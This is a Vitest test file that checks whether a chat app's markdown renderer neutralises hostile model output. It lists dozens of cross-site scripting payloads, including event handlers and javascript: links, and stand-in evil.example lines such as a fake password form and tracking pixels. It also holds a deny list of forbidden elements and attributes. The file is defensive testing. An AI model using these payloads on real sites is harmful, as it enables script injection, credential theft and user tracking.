// @vitest-environment jsdom
// Whatever a model writes, nothing of it runs, is fetched, or looks like a part of the app.
import { describe, expect, it } from "vitest";
import { MarkdownView } from "../../src/ui/markdown/markdownview.ts";
import hostile from "../data/hostile.json";

const labels = { copy: "Copy", copied: "Copied", code: "Code", table: "Table", openImage: (name: string) => `Open picture: ${name}`, cite: (number: number) => `Source ${number}` };

function show(text: string): HTMLElement {
  const root = document.createElement("div");
  new MarkdownView(root, labels).update(text, false);
  return root;
}

const VECTORS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "![x](javascript:alert(1))",
  "<details open ontoggle=alert(1)>x</details>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<object data=x></object><embed src=x><base href=https://evil.example>",
  "<style>* { display: none }</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
  "<video poster=https://evil.example/x src=https://evil.example/y autoplay></video><audio src=https://evil.example>",
  "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y srcset=https://evil.example/z></picture>",
  "<table background=https://evil.example/x><tr><td background=//evil.example>y",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "```js\n</code></pre><img src=x onerror=alert(1)>\n```",
  "```<img/src=x/onerror=alert(1)>\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "$<img src=x onerror=alert(1)>$ and $$</span><script>alert(1)</script>$$",
  "<span data-tex=\"\\href{javascript:alert(1)}{x}\">x</span>",
  "<div class=md-code id=app data-testid=send><button class=md-code-copy>Copy</button></div>",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | [y](javascript:1) |",
  "- <img src=x onerror=alert(1)>\n- ![](https://evil.example/pixel.gif)",
  "<x-y onclick=alert(1)>z</x-y><slot name=a></slot><template><script>1</script></template>",
  "[a]: javascript:alert(1)\n\n[a]",
  "<https://evil.example/\"onmouseover=alert(1)>",
  "<a href=https://ok.example target=_self ping=https://evil.example download>x</a>",
];

const FORBIDDEN =
  "script,style,link,iframe,object,embed,base,form,input,textarea,select,meta,svg,math,video,audio,source,picture,template,noscript,slot,button:not(.md-code-copy)";

function check(root: HTMLElement, text: string): void {
  expect(root.querySelector(FORBIDDEN), text).toBeNull();
  for (const element of root.querySelectorAll("*")) {
    const own = element.closest(".md-code,.md-picture,[data-scroll]") !== null;
    for (const { name, value } of element.attributes) {
      expect(name, text).not.toMatch(/^on|^style$|^id$|^name$|^srcset$|^ping$|^background$|^poster$|^action$/);
      if (name === "href") expect(value, text).toMatch(/^(?:https?:|mailto:|tel:)/i);
      if (name === "src") expect(value, text).toMatch(/^data:image\//);
      if (name === "class" && !own) expect(value, text).toMatch(/^(?:md-block|md-caret| )+$/);
    }
    if (element.tagName === "A" && element.hasAttribute("href")) {
      expect(element.getAttribute("rel"), text).toBe("noopener noreferrer");
      expect(element.getAttribute("target"), text).toBe("_blank");
    }
  }
}

describe("a hostile answer", () => {
  it.each(VECTORS)("does nothing: %s", (text) => {
    check(show(text), text);
    check(show(`Before.\n\n${text}\n\nAfter.`), text);
  });

  it.each(hostile.vectors.map((vector) => vector.replaceAll("{E}", "https://evil.example")))("does nothing: %s", (text) => {
    check(show(text), text);
  });

  it("does nothing at any point of its growth", () => {
    const text = VECTORS.slice(0, 12).join("\n\n");
    const root = document.createElement("div");
    const view = new MarkdownView(root, labels);
    for (let cut = 7; cut < text.length; cut += 7) {
      view.update(text.slice(0, cut), true);
      view.flush();
      check(root, text.slice(0, cut));
    }
  });
});

describe("a picture from elsewhere", () => {
  it("is a link until the reader follows it", () => {
    const root = show("Look: ![A cat](https://example.org/cat.png)");
    expect(root.querySelector("img")).toBeNull();
    const link = root.querySelector<HTMLAnchorElement>(".md-picture");
    expect(link?.textContent).toBe("Open picture: A cat");
    expect(link?.href).toBe("https://example.org/cat.png");
  });

  it("is shown when the answer carries it", () => {
    expect(show("![dot](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")?.alt).toBe("dot");
    expect(show("![dot](data:image/svg+xml;base64,PHN2Zz4=)").querySelector("img[src]")).toBeNull();
  });
});
